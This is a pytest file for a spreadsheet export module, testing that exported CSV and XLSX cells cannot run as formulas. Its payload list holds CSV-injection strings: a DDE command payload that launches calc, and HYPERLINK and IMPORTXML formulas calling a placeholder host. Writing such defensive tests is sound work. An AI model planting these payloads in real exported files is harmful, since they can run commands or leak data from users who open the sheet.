"""What leaves for a spreadsheet: inert, exact, and the same again when it comes back."""

from __future__ import annotations

import csv
import datetime
import io
import zipfile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from learningculture.spreadsheets import LONGEST_XLSX_CELL, Sheet, as_typed, csv_bytes, inert, xlsx_bytes

PAYLOADS = [
    '=HYPERLINK("http://x.invalid")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "-",
    "'=1+1",
    '=IMPORTXML(CONCAT("http://x.invalid", A1), "//a")',
]
NAMES = ["Żółć", "O’Brien", "'t Hooft", "Null", "van der Berg, Jr", "004001", "0.5", "1e5", "http://x.invalid", ""]


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def sheet(*cells: object) -> Sheet:
    return Sheet("People", ["a"] * len(cells), [cells])  # type: ignore[list-item]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_inert_in_csv_and_comes_back(payload: str) -> None:
    cell = rows_of(csv_bytes(sheet(payload)))[1][0]
    assert cell == f"'{payload}"
    assert as_typed(cell) == payload


@pytest.mark.parametrize("payload", [payload for payload in PAYLOADS if "\0" not in payload and "\r" not in payload])
def test_payload_is_text_in_xlsx_and_comes_back(payload: str) -> None:
    content = xlsx_bytes([sheet(payload)])
    cell = openpyxl.load_workbook(io.BytesIO(content)).active["A2"]  # type: ignore[index]
    assert (cell.value, cell.data_type) == (payload, "s")
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("name", NAMES)
def test_ordinary_text_is_left_as_it_is(name: str) -> None:
    assert rows_of(csv_bytes(sheet(name, "x")))[1][0] == name
    value = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([sheet(name, "x")]))).active["A2"].value  # type: ignore[index]
    assert (value or "") == name


def test_numbers_stay_numbers() -> None:
    cells = rows_of(csv_bytes(sheet(-0.23, -5, True, None, datetime.date(2026, 3, 9))))[1]
    assert cells == ["-0.23", "-5", "true", "", "2026-03-09"]
    assert float(cells[0]) == -0.23
    row = next(openpyxl.load_workbook(io.BytesIO(xlsx_bytes([sheet(-0.23, datetime.date(2026, 3, 9))]))).active.rows)  # type: ignore[union-attr]
    assert row[0].value == "a"


def test_workbook_holds_numbers_and_dates_as_such() -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([sheet(-0.23, datetime.date(2026, 3, 9), False)])))
    cells = [cell.value for cell in book.active[2]]  # type: ignore[index]
    assert cells == [-0.23, datetime.datetime(2026, 3, 9), False]


def test_csv_is_what_excel_opens() -> None:
    content = csv_bytes(Sheet("People", ["name"], [["Żółć"]]))
    assert content == "\ufeffname\r\nŻółć\r\n".encode()
    assert csv_bytes(Sheet("People", ["name"], []), mark=False) == b"name\r\n"


def test_header_is_text_too() -> None:
    assert rows_of(csv_bytes(Sheet("x", ["=1+1"], [])))[0] == ["'=1+1"]


def test_text_too_long_for_excel_is_cut_visibly() -> None:
    value = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([sheet("x" * 40_000)]))).active["A2"].value  # type: ignore[index]
    assert len(value) == LONGEST_XLSX_CELL and value.endswith("…")


@given(st.text())
def test_marking_and_unmarking_give_the_same_text(text: str) -> None:
    assert as_typed(inert(text)) == text
